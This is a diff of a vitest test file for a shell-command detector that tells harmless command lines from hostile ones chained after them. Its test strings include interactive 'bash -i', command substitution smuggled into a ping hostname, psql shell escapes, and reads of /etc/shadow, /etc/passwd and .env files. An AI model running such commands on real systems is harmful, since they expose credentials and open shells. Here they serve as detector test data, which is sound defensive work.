@@ -3,7 +3,7 @@
 import { expect, test } from 'vitest';
 import { detectText } from '../detect.ts';
 import { detectors } from '../list.ts';
-import { followsCommand, isHarmless, isOwnProgram } from './own-lines.ts';
+import { followsCommand, isHarmless, isNextStep, isOwnProgram } from './own-lines.ts';
 
 test.each([
   ['git pull && npm ci', true],
@@ -39,6 +39,12 @@ test.each([
   expect(isHarmless(text, 0)).toBe(expected);
 });
 
+test('the next step of a line that is too long to be read is none', () => {
+  const text = `x ping ${'x'.repeat(295)}; ping b`;
+  expect(isNextStep(text, text.indexOf(';'), 'ping', text.length - 2)).toBe(false);
+  expect(isNextStep('ping a; ping b', 6, 'ping', 12)).toBe(true);
+});
+
 test('a program is as harmless as the worst of its commands', () => {
   expect(isOwnProgram('for f in *.png; do convert "$f" "$f.jpg"; done')).toBe(true);
   expect(isOwnProgram('for f in *.png; do id; done')).toBe(false);
@@ -56,6 +62,21 @@ test.each([
   'git log; whoami',
   'cat a.txt | bash -i',
 ])('what follows a harmless command is found: %s', (text) => {
+  const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
+  expect(ids.some((id) => strong.has(id))).toBe(true);
+});
+
+test.each([
+  ...['ping a.example; ping -c 9 b.example', 'ping; ping b.example', 'x; ping b.example'],
+  ...['ping a.example; ping $(id).b.example', 'iptables -L; iptables -L > /tmp/x'],
+  ...['please wait here; cat /opt/app/.env shows it', 'please wait here; ls -la / shows it'],
+  ...['please wait here; ls -la /etc shows it', 'one; ls -la /opt shows it'],
+  ...["echo '\\! id' | psql shop", 'echo "\\! id" | psql shop', 'x; echo 1 | psql -U a shop'],
+  ...['echo "$(id)" | psql -U a shop', 'echo 1 | psql -U a -c "copy a to program \'id\'"'],
+  ...["$a = f('ls'); cat /etc/passwd", '$a = b; echo $c > /srv/a'],
+  ...['pg_dump shop | gzip > /srv/a.php', 'x; pg_dump shop | gzip > /srv/a.gz'],
+  ...['pg_dump $(id) | gzip > /srv/a.gz', 'cat /etc/shadow | gzip > /srv/a.gz'],
+])('a command that only looks like one of the text is found: %s', (text) => {
   const ids = detectText(text).flatMap(({ hits }) => hits.map(({ id }) => id));
   expect(ids.some((id) => strong.has(id))).toBe(true);
 });
@@ -82,6 +103,15 @@ test.each([
     'tar xf a.tgz && ls /opt/app',
     'git pull; tail -f /var/log/a',
     'cd /var/www && ls -la',
+    'ping 8.8.8.8 works; ping files.example says unknown host.',
+    'ipconfig /flushdns && ipconfig /all | more',
+    'iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT; iptables -P INPUT DROP',
+    'bash says not found; echo $PATH looks fine',
+    "$a = f('ls');\necho $a;",
+    'the script is there; ls -l /opt/run.sh shows -rw-r--r--',
+    'echo "SELECT 1;" | psql -U app shop',
+    'cat dump.sql | mysql -u app shop',
+    '0 3 * * * /usr/bin/pg_dump shop | gzip > /backup/shop-$(date +\\%F).sql.gz',
   ],
   'To start it again: npm stop && sleep 5 && npm start, and the old page is gone in a few seconds',
   'npm run build\nnpm stop; sleep 5\nnpm start',
